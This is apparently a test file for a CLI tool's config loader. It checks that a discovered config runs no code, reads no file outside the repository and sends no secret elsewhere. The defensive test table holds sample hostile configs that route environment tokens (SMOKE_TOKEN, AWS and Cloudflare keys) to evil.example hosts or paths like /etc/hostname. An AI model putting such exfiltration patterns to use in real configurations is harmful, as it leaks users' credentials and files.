// A config that was found may be a stranger's: no code of it runs, no file outside is read, and it spends no secret elsewhere.
import { existsSync, mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { settleConfig } from '../../src/cli/settings.ts'
import { findConfig } from '../../src/config/find.ts'
import { loadConfig } from '../../src/config/load.ts'

const folderWith = (files: Readonly<Record<string, string>>, git = true): string => {
  const folder = mkdtempSync(join(tmpdir(), 'found-config-'))
  if (git) mkdirSync(join(folder, '.git'))
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true })
    writeFileSync(join(folder, path), text)
  }
  return folder
}

const settle = async (cwd: string, choice: Parameters<typeof settleConfig>[0] = {}, env = {}) => {
  let said = ''
  const loaded = await settleConfig(choice, {
    cwd,
    env,
    err: text => {
      said += text
    },
  })
  return { loaded, said }
}

const env = {
  SMOKE_TOKEN: 'smoke-token-of-ours',
  AWS_SECRET_ACCESS_KEY: 'aws-secret-of-ours',
  CLOUDFLARE_API_TOKEN: 'cloudflare-token-of-ours',
}

describe('where a config is looked for', () => {
  it('up to the git root and no further; announced by its path', async () => {
    const folder = folderWith({
      'launch-ready.config.yaml': 'domain: outside.example\n',
      'repo/.git/HEAD': '',
      'repo/app/web/a.txt': '',
    })
    expect(findConfig(join(folder, 'repo/app/web')).path).toBeNull()
    writeFileSync(join(folder, 'repo/launch-ready.config.json'), '{"domain":"inside.example"}')
    const { loaded, said } = await settle(join(folder, 'repo/app/web'))
    expect(loaded.config.domain).toBe('inside.example')
    expect(said).toBe('config: ../../launch-ready.config.json\n')
  })

  it('outside of git in the folder alone', () => {
    const folder = folderWith({ 'launch-ready.config.yaml': 'domain: a.example\n', 'inner/a.txt': '' }, false)
    expect(findConfig(join(folder, 'inner')).path).toBeNull()
    expect(findConfig(folder).path).toBe(join(folder, 'launch-ready.config.yaml'))
  })

  it.each(['ts', 'mts', 'cts', 'mjs', 'cjs', 'js'])(
    'code (.%s) is not run, and said so; named it is',
    async extension => {
      const folder = folderWith({})
      const proof = join(folder, 'ran')
      const run = extension.startsWith('c') ? 'module.exports = {}; require' : 'export default {}; import'
      const text = `${run}('node:fs')${run.includes('import') ? `.then(fs => fs.writeFileSync(${JSON.stringify(proof)}, ''))` : `.writeFileSync(${JSON.stringify(proof)}, '')`}\n`
      writeFileSync(join(folder, `launch-ready.config.${extension}`), text)
      const { loaded, said } = await settle(folder)
      expect(loaded.path).toBeNull()
      expect(said).toContain(`not run: launch-ready.config.${extension} is code`)
      expect(existsSync(proof)).toBe(false)
    },
  )

  it('code that the user names is run', async () => {
    const folder = folderWith({ 'mine.mjs': "export default { domain: 'named.example' }\n" })
    expect((await settle(folder, { path: 'mine.mjs' })).loaded.config.domain).toBe('named.example')
  })

  it('two in one folder are an error, --no-config looks for none', async () => {
    const folder = folderWith({ 'launch-ready.config.yaml': 'domain: a.example\n', 'launch-ready.config.json': '{}' })
    await expect(settle(folder)).rejects.toThrow('two configs in one folder')
    expect((await settle(folder, { none: true })).loaded).toMatchObject({ path: null, secrets: [] })
  })

  it('a link that leads out of the repository is not read', () => {
    const outside = folderWith({ 'private.yaml': 'domain: secret.example\n' })
    const folder = folderWith({})
    symlinkSync(join(outside, 'private.yaml'), join(folder, 'launch-ready.config.yaml'))
    expect(() => findConfig(folder)).toThrow('leads out of')
  })
})

const load = (text: string, found = true) => {
  const folder = folderWith({ 'launch-ready.config.yaml': text })
  return loadConfig(join(folder, 'launch-ready.config.yaml'), env, found ? { root: folder } : null)
}

describe('what a found config may not', () => {
  it.each([
    ['a host', 'domain: "${SMOKE_TOKEN}.evil.example"', 'only where a secret belongs'],
    ['a query', 'routes: [{ name: a, url: "https://evil.example/?k=${SMOKE_TOKEN}" }]', 'only where a secret belongs'],
    [
      'a resolver',
      'dns: { certificateTransparency: "https://evil.example/${SMOKE_TOKEN}" }',
      'only where a secret belongs',
    ],
    [
      'another host',
      'domain: own.example\nroutes: [{ name: a, url: "https://evil.example/", headers: { a: "${SMOKE_TOKEN}" } }]',
      'would be sent to evil.example',
    ],
    [
      'a step of a flow elsewhere',
      'domain: own.example\nflows: [{ name: a, steps: [{ get: "https://evil.example/" }, { submit: form, fill: { a: "${SMOKE_TOKEN}" } }] }]',
      'would be sent to evil.example',
    ],
    [
      'a neighbour on a shared domain',
      'domain: own.github.io\nroutes: [{ name: a, url: "https://evil.github.io/", headers: { a: "${SMOKE_TOKEN}" } }]',
      'would be sent to evil.github.io',
    ],
    [
      'a secret of another program',
      'domain: evil.example\nroutes: [{ name: a, url: "https://evil.example/", headers: { a: "${AWS_SECRET_ACCESS_KEY}" } }]',
      'belongs to another program',
    ],
    [
      'a token for a server of its own',
      'domain: own.example\ncloudflare: { token: "${CLOUDFLARE_API_TOKEN}", api: "https://evil.example/" }',
      'would be sent to evil.example',
    ],
    ['a browser', 'audit: { browser: ./x.sh }', 'named with --browser or CHROME_PATH'],
    ['a file outside', 'dns: { snapshot: ../../secret.zone }', 'lies outside of'],
    ['a file outside by its whole path', 'report: { logo: /etc/hostname }', 'lies outside of'],
  ])('%s', async (_, text, fault) => {
    await expect(load(text)).rejects.toThrow(fault)
  })

  it('sends a secret to its own domain and to the provider that the key names, and says to whom', async () => {
    const { sends, secrets } = await load(
      [
        'domain: own.example',
        'routes: [{ name: a, url: "https://app.own.example/", headers: { authorization: "Bearer ${SMOKE_TOKEN}" } }]',
        'cloudflare: { token: "${CLOUDFLARE_API_TOKEN}" }',
      ].join('\n'),
    )
    expect(sends).toEqual([
      { name: 'SMOKE_TOKEN', key: 'routes[0].headers.authorization', hosts: ['app.own.example'] },
      { name: 'CLOUDFLARE_API_TOKEN', key: 'cloudflare.token', hosts: ['api.cloudflare.com'] },
    ])
    expect(secrets).toEqual([env.SMOKE_TOKEN, env.CLOUDFLARE_API_TOKEN])
  })

  it('a config that was named may name hosts of its own, and files anywhere', async () => {
    const text =
      'domain: own.example\nhosts: { api: own-api.example }\nroutes: [{ name: a, url: "https://own-api.example/", headers: { a: "${AWS_SECRET_ACCESS_KEY}" } }]\nreport: { logo: /tmp/logo.png }'
    expect((await load(text, false)).sends).toHaveLength(1)
    await expect(load(text)).rejects.toThrow()
  })
})
